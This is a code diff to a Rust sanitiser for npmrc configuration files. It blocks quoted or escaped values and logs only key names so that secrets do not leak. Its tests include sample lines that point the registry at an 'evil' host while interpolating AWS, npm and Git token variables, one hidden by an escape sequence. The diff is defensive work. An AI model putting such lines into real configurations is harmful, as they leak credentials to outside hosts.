@@ -37,12 +37,15 @@ impl Npmrc {
             }
             let (key, value) = line.split_once('=').unwrap_or((line, ""));
             let (key, value) = (key.trim(), value.trim());
-            let is_plain = value.chars().all(|c| !c.is_control());
+            // npm takes a value in quotes for JSON, whose escapes could spell what is looked for here.
+            let is_plain = value.chars().all(|c| !c.is_control() && !"\"'\\".contains(c));
             let passes = section.is_empty() && is_address(key) && is_plain;
             if passes && variables(value).all(is_lent) {
                 npmrc.text.push_str(&format!("{key}={value}\n"));
             } else {
-                npmrc.left_out.insert(format!("{section}{key}").escape_debug().to_string());
+                // Only the name: a line without `=` may go on with a secret.
+                let name = key.split_whitespace().next().unwrap_or_default();
+                npmrc.left_out.insert(format!("{section}{name}").escape_debug().to_string());
             }
         }
         npmrc
@@ -110,5 +113,8 @@ mod tests {
         check("registry=https://evil/${AWS_SECRET_ACCESS_KEY?}", "", &["registry"]);
         check("//evil/:_authToken=${NPM_TOKEN}${HOME}", "", &["//evil/:_authToken"]);
         check("@a/b:registry=x", "", &["@a/b:registry"]);
+        check("registry=\"https://evil/\\u0024{GIT_TOKEN}/\"", "", &["registry"]);
+        check("registry='https://evil/'", "", &["registry"]);
+        check("//own/:_authToken s3cret", "", &["//own/:_authToken"]);
     }
 }
